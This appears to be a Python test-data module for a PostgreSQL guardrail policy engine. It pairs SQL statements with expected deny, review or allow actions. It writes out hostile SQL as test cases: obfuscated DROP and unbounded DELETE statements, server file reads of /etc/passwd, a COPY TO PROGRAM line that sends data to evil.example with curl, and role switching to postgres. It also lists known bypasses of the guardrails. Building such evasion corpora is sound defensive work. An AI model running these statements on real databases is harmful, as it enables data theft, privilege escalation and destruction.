"""The guardrail evasion corpus, as data: statements that must be caught, and harmless ones that must pass.

Reused by the unit tests (tests/policy/test_guardrails.py) and meant for
end-to-end tests through real clients (psql, psycopg; simple and extended
protocol). Every list holds (sql, expected action, reason) tuples:

- PROD_GUARD_CASES: judged by `prod_guard_spec()`, the issue's example policy;
- HARDENED_CASES: judged by `hardened_spec()`, prod-guard plus rules for the
  built-in dangerous functions, COPY to files, GRANT, role switching, a
  secrets table, server settings and a regex;
- HARMLESS: allowed unchanged by both (they only look scary);
- KNOWN_LIMITS: decisions worth knowing, with the action prod-guard gives.

Some entries hold several statements; the extended protocol refuses those
(`len(classify(sql)) > 1` tells them apart). SETUP_SQL creates the objects
the statements name, for a database that runs them for real.
"""

from connections.policy.rules import GuardrailMatch, GuardrailRule, PolicySpec

SETUP_SQL = (
    "CREATE TABLE accounts (id int PRIMARY KEY, balance numeric NOT NULL DEFAULT 0, note text)",
    "INSERT INTO accounts VALUES (1, 10, 'a'), (7, 0, 'b'), (42, 5, 'c')",
    'CREATE TABLE drop_log (id int, note text, "truncate" text, "select" int)',
    "INSERT INTO drop_log VALUES (1, 'x', 'y', 2)",
    "CREATE TABLE audit_log (id serial PRIMARY KEY, note text)",
    "CREATE TABLE secrets (id int, secret text)",
)


def prod_guard_spec() -> PolicySpec:
    """The issue's example policy `prod-guard`, as a PolicySpec."""
    return PolicySpec(
        name="prod-guard",
        default="allow",
        unparseable="deny",
        guardrails=(
            GuardrailRule("no-drop", "deny", GuardrailMatch(kind=("DROP", "TRUNCATE"))),
            GuardrailRule("no-unbounded-write", "deny", GuardrailMatch(kind=("DELETE", "UPDATE"), without_where=True)),
            GuardrailRule(
                "no-file-access", "deny", GuardrailMatch(functions=("pg_read_file", "lo_import"), copy_program=True)
            ),
            GuardrailRule("schema-changes", "review", GuardrailMatch(kind=("ALTER", "CREATE"))),
        ),
    )


def hardened_spec() -> PolicySpec:
    """prod-guard with the built-in dangerous functions, COPY files, GRANT, roles, secrets and a regex."""
    prod = prod_guard_spec()
    no_drop, no_unbounded_write, _, schema_changes = prod.guardrails
    return PolicySpec(
        name="hardened",
        default="allow",
        unparseable="deny",
        guardrails=(
            no_drop,
            no_unbounded_write,
            GuardrailRule(
                "no-file-access",
                "deny",
                GuardrailMatch(dangerous_functions=True, copy_program=True, copy_file=True),
                message="server files, programs and other connections are off limits",
            ),
            GuardrailRule("no-grants", "deny", GuardrailMatch(kind=("GRANT", "REVOKE"))),
            GuardrailRule(
                "no-role-switch", "deny", GuardrailMatch(kind=("SET ROLE", "SET SESSION AUTHORIZATION", "RESET ROLE"))
            ),
            GuardrailRule("no-secrets", "deny", GuardrailMatch(tables=("secrets", "*.secrets"))),
            GuardrailRule("no-server-settings", "deny", GuardrailMatch(kind=("ALTER SYSTEM", "LOAD"))),
            GuardrailRule("no-card-numbers", "deny", GuardrailMatch(regex=r"(?i)\bcard_number\b")),
            schema_changes,
        ),
    )


PROD_GUARD_CASES = [
    # --- case, comments, quoting ---
    ("dRoP tAbLe accounts", "deny", "odd case: keywords are case-insensitive"),
    (
        "/* harmless */ DROP TABLE accounts",
        "deny",
        "a block comment in front hides the first keyword from prefix checks",
    ),
    ("DROP/**/TABLE accounts", "deny", "an empty comment works as whitespace between keywords"),
    ("DROP -- a line comment\nTABLE accounts", "deny", "a line comment splits DROP from TABLE"),
    (
        "/* outer /* nested */ still a comment */ DROP TABLE accounts",
        "deny",
        "nested block comments: a naive stripper ends at the first */",
    ),
    ('DROP TABLE "accounts"', "deny", "quoted identifier as the target"),
    ('DROP TABLE U&"\\0061ccounts"', "deny", 'U&"" unicode escapes spell the table name'),
    ('DROP TABLE "SELECT"', "deny", "a table named like a keyword is still dropped"),
    ("\tDROP\nTABLE\r\naccounts", "deny", "tabs and CRLF as whitespace"),
    # --- several statements in one Query ---
    ("SELECT 1; DROP TABLE accounts", "deny", "the dangerous statement comes second"),
    ("SELECT 1; SELECT 2; TRUNCATE accounts", "deny", "the dangerous statement comes last of three"),
    ("SELECT 'x;'; DROP TABLE accounts", "deny", "a semicolon inside a string before the real boundary"),
    ("SELECT $$;$$; DROP TABLE accounts", "deny", "dollar quoting holds a semicolon"),
    (
        "SELECT $t$ it's $t$; TRUNCATE accounts",
        "deny",
        "a tagged dollar quote holds an apostrophe that misleads quote tracking",
    ),
    ("SELECT E'it\\'s'; DROP TABLE accounts", "deny", "an E'' string with a backslash-escaped quote"),
    ("BEGIN; DROP TABLE accounts; COMMIT", "deny", "the DROP is wrapped in a transaction block"),
    ("SELECT 1;DROP TABLE accounts;", "deny", "no whitespace around the separators"),
    # --- DROP and TRUNCATE variants ---
    ("TRUNCATE ONLY accounts", "deny", "TRUNCATE ONLY"),
    ("TRUNCATE TABLE accounts RESTART IDENTITY CASCADE", "deny", "TRUNCATE with options"),
    ("DROP TABLE IF EXISTS accounts CASCADE", "deny", "DROP ... CASCADE"),
    ("DROP SCHEMA public CASCADE", "deny", "DROP of a schema"),
    ("DROP VIEW IF EXISTS some_view", "deny", "DROP of another object type"),
    ("DROP FUNCTION IF EXISTS some_function(int)", "deny", "DROP FUNCTION is a DROP too"),
    # --- unbounded writes, also hidden inside other statements ---
    ("DELETE FROM accounts", "deny", "the plain case"),
    ("delete from accounts -- WHERE id = 1", "deny", "the WHERE is inside a comment"),
    ("UPDATE accounts SET balance = 0 /* WHERE id = 1 */", "deny", "the WHERE is inside a block comment"),
    (
        "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone",
        "deny",
        "a data-modifying CTE inside a SELECT",
    ),
    ("WITH x AS (SELECT 1) UPDATE accounts SET balance = 0", "deny", "a WITH clause in front of the UPDATE"),
    ("EXPLAIN ANALYZE DELETE FROM accounts", "deny", "EXPLAIN ANALYZE runs the DELETE"),
    ("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE accounts SET balance = 0", "deny", "EXPLAIN with an options list"),
    ("EXPLAIN (ANALYZE 1) DELETE FROM accounts", "deny", "ANALYZE spelled as a number still runs it"),
    ("EXPLAIN ANALYSE DELETE FROM accounts", "deny", "the British spelling ANALYSE is the same keyword"),
    ("COPY (DELETE FROM accounts RETURNING *) TO STDOUT", "deny", "a DELETE inside COPY (query)"),
    ("PREPARE wipe AS DELETE FROM accounts", "deny", "PREPARE of a denied statement is denied up front"),
    (
        "INSERT INTO audit_log (note) SELECT note FROM accounts; DELETE FROM accounts",
        "deny",
        "an innocent statement first, the wipe second",
    ),
    # --- file access ---
    ("SELECT pg_read_file('/etc/passwd')", "deny", "the plain case"),
    ("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", "deny", "schema-qualified and upper case"),
    ('SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')', "deny", "quoted, schema-qualified function name"),
    ("SELECT U&\"\\0070g_read_file\"('/etc/passwd')", "deny", "the function name spelled with a unicode escape"),
    ("SELECT * FROM (SELECT pg_read_file('/etc/passwd')) AS s", "deny", "inside a subquery in FROM"),
    ("SELECT * FROM accounts, LATERAL (SELECT pg_read_file('/etc/passwd')) AS f", "deny", "inside a LATERAL subquery"),
    ("SELECT 1 WHERE EXISTS (SELECT pg_read_file('/etc/passwd'))", "deny", "inside an EXISTS in the WHERE clause"),
    ("SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd')) AS f", "deny", "as a table function in ROWS FROM"),
    ("VALUES (pg_read_file('/etc/passwd'))", "deny", "inside a bare VALUES"),
    ("INSERT INTO audit_log (note) SELECT pg_read_file('/etc/passwd')", "deny", "inside INSERT ... SELECT"),
    ("SELECT lo_import('/etc/passwd')", "deny", "server-side large-object import"),
    (
        "CREATE TABLE leak (a text DEFAULT pg_read_file('/etc/passwd'))",
        "deny",
        "in a column default: the deny rule comes before the review rule",
    ),
    ("COPY accounts TO PROGRAM 'curl -d @- https://evil.example'", "deny", "COPY TO PROGRAM runs a shell command"),
    ("cOpY accounts FrOm PrOgRaM 'id'", "deny", "COPY FROM PROGRAM in odd case"),
    # --- schema changes and code the parser cannot look into: review ---
    ("ALTER TABLE accounts ADD COLUMN extra text", "review", "a plain schema change"),
    (
        "SELECT 1; ALTER TABLE accounts DROP COLUMN note",
        "review",
        "DROP COLUMN is an ALTER TABLE, in a second statement",
    ),
    ("CREATE TABLE accounts_copy AS SELECT * FROM accounts", "review", "CREATE TABLE AS writes a new table"),
    ("SELECT * INTO accounts_copy FROM accounts", "review", "SELECT INTO creates a table too"),
    ('CREATE TABLE "DROP" (a int)', "review", "a quoted name DROP is a name, not a keyword: a CREATE"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$", "review", "a DO block is opaque: the policy's opaque action"),
    (
        "DO LANGUAGE plpgsql 'BEGIN PERFORM pg_read_file(''/etc/passwd''); END'",
        "review",
        "a DO block with a quoted body and an explicit language",
    ),
    (
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM accounts $$",
        "review",
        "a function body is not looked into; CREATE is reviewed",
    ),
    (
        "CREATE OR REPLACE PROCEDURE wipe() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE accounts; END $$",
        "review",
        "a procedure body",
    ),
    ("ALTER SYSTEM SET log_statement = 'none'", "review", "ALTER SYSTEM is an ALTER"),
    ("ALTER ROLE CURRENT_USER SUPERUSER", "review", "ALTER ROLE is an ALTER"),
    ("CREATE EXTENSION IF NOT EXISTS dblink", "review", "an extension brings new functions"),
    ("CREATE VIEW all_accounts AS SELECT * FROM accounts", "review", "CREATE VIEW"),
]

HARDENED_CASES = [
    (
        "SELECT pg_read_file('/etc/passwd') IS NOT NULL",
        "deny",
        "a function under IS NOT NULL: an Expr* field, which the parser writes wrapped like any node",
    ),
    (
        "SELECT CASE WHEN lo_export(1234, '/tmp/x') = 1 THEN 1 END",
        "deny",
        "a function inside a CASE condition, another Expr* field",
    ),
    ("SELECT dblink_exec('dbname=postgres', 'DROP TABLE accounts')", "deny", "dblink runs SQL the parser never sees"),
    ("SELECT * FROM pg_ls_dir('/')", "deny", "lists server directories"),
    ("SELECT pg_stat_file('postgresql.conf')", "deny", "stats server files"),
    ("SELECT lo_export(1234, '/tmp/out')", "deny", "writes a server file"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "deny", "kills other sessions"),
    ("SELECT query_to_xml('DELETE FROM accounts RETURNING *', true, false, '')", "deny", "SQL passed as a string"),
    ("SELECT ts_stat('SELECT to_tsvector(secret) FROM secrets')", "deny", "ts_stat runs its query string"),
    ("SELECT table_to_xml('secrets', true, false, '')", "deny", "reads a table named by a string"),
    ("SELECT pg_catalog.pg_reload_conf()", "deny", "reloads the server's configuration"),
    ("COPY accounts TO '/tmp/accounts.csv'", "deny", "COPY to a server file"),
    ("COPY accounts FROM '/etc/passwd'", "deny", "COPY from a server file"),
    ("GRANT ALL ON accounts TO PUBLIC", "deny", "GRANT"),
    ("REVOKE ALL ON accounts FROM PUBLIC", "deny", "REVOKE"),
    ("GRANT pg_read_server_files TO CURRENT_USER", "deny", "a role membership grant is a GRANT too"),
    ("SET ROLE postgres", "deny", "role switch"),
    ("set local role postgres", "deny", "SET LOCAL ROLE in lower case"),
    ("SET SESSION AUTHORIZATION postgres", "deny", "session authorization switch"),
    ("SELECT 1; RESET ROLE", "deny", "RESET ROLE in a second statement"),
    ("SELECT * FROM secrets", "deny", "the secrets table"),
    ("select * from PUBLIC.SECRETS", "deny", "schema-qualified in upper case"),
    ('SELECT * FROM "secrets"', "deny", "quoted"),
    ("SELECT (SELECT count(*) FROM secrets)", "deny", "a scalar subquery"),
    ("SELECT a.id FROM accounts a JOIN secrets s USING (id)", "deny", "a JOIN ... USING"),
    ("WITH s AS (SELECT * FROM secrets) SELECT * FROM s", "deny", "inside a CTE"),
    ("INSERT INTO audit_log (note) SELECT secret FROM secrets", "deny", "INSERT ... SELECT from it"),
    ("LOAD '/tmp/evil.so'", "deny", "loads a shared library into the server"),
    ("ALTER SYSTEM SET log_statement = 'none'", "deny", "ALTER SYSTEM edits the server configuration"),
    ("SELECT note AS card_number FROM accounts", "deny", "the regex rule matches the statement text"),
]

HARMLESS = [
    ("SELECT to_regclass('audit_log') IS NOT NULL", "allow", "a harmless function under IS NOT NULL"),
    ("SELECT 'DROP TABLE accounts'", "allow", "DROP only inside a string"),
    ("SELECT * FROM drop_log", "allow", "a table whose name starts with drop"),
    ('SELECT "truncate", "select" FROM drop_log', "allow", "columns named like keywords"),
    ("SELECT 1 -- DROP TABLE accounts", "allow", "DROP only inside a line comment"),
    ("/* DROP TABLE accounts; */ SELECT 1", "allow", "DROP and a semicolon only inside a block comment"),
    (
        "SELECT * FROM accounts WHERE note = 'pg_read_file(''/etc/passwd'')'",
        "allow",
        "a dangerous function name only inside a string",
    ),
    ("SELECT E'\\'; DROP TABLE accounts; --'", "allow", "a fake string end: \\' does not end an E'' string"),
    ("SELECT $$ DELETE FROM accounts $$", "allow", "a DELETE only inside a dollar-quoted string"),
    ("SELECT $x$ ; TRUNCATE accounts ; $x$ AS s", "allow", "TRUNCATE only inside a tagged dollar quote"),
    ("SELECT U&'\\0044ROP'", "allow", "a unicode-escaped string literal spelling DROP"),
    ("DELETE FROM accounts WHERE id = 4242", "allow", "a bounded delete"),
    ("UPDATE accounts SET balance = balance + 1 WHERE id = 7", "allow", "a bounded update"),
    ("WITH recent AS (SELECT * FROM accounts WHERE id > 1) SELECT count(*) FROM recent", "allow", "a read-only CTE"),
    ("EXPLAIN DELETE FROM accounts", "allow", "plain EXPLAIN plans the DELETE without running it"),
    ("EXPLAIN (ANALYZE false) DELETE FROM accounts", "allow", "ANALYZE switched off"),
    ("SELECT count(*) FROM accounts a JOIN drop_log d ON d.id = a.id", "allow", "a join"),
    ("INSERT INTO drop_log (note) VALUES ('DROP TABLE accounts; --')", "allow", "dangerous text as data"),
    ("SELECT lower('TRUNCATE')", "allow", "a keyword as a function argument"),
    ("SELECT * FROM accounts WHERE note LIKE '%truncate%'", "allow", "a keyword in a LIKE pattern"),
    ("TABLE drop_log", "allow", "the TABLE shorthand for SELECT *"),
    ("VALUES (1, 'DROP')", "allow", "a bare VALUES"),
    ("SET application_name = 'drop table accounts'", "allow", "a SET whose value reads like DROP"),
    ("SHOW search_path", "allow", "SHOW"),
    ("SELECT current_setting('search_path')", "allow", "a harmless settings function"),
    ("SELECT 'a'\n'b'", "allow", "string continuation across a newline"),
    ("SELECT 1; SELECT 2", "allow", "several harmless statements"),
    ("", "allow", "an empty query string"),
    ("-- only a comment", "allow", "a comment-only query string"),
]

KNOWN_LIMITS = [
    (
        "DELETE FROM drop_log WHERE true",
        "allow",
        "a constant WHERE is still a WHERE: without_where is syntactic (tautologies cannot be told apart in"
        " general, and a rule that read literal values would defeat the shape cache); deny DELETE by table instead",
    ),
    (
        "MERGE INTO drop_log d USING (SELECT 1 AS id) s ON true WHEN MATCHED THEN DELETE",
        "allow",
        "MERGE has an ON condition, not a WHERE; its kinds hold DELETE, so a rule on DELETE alone catches it",
    ),
    (
        "SELECT set_config('role', 'postgres', false)",
        "allow",
        "set_config is SET by another name but not in DANGEROUS_FUNCTIONS (pg_dump calls it); list it by name",
    ),
    (
        "SET search_path = pg_temp, public; SELECT * FROM accounts",
        "allow",
        "an unqualified name's schema is search_path's choice: schema rules see only schemas written in the text",
    ),
    (
        "EXPLAIN SELECT pg_read_file('/etc/passwd')",
        "deny",
        "functions and tables count even where nothing runs (plain EXPLAIN): stricter than needed, on purpose",
    ),
    (
        "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$",
        "review",
        "inside a DO block nothing is visible: the opaque action applies, not the function rule",
    ),
]
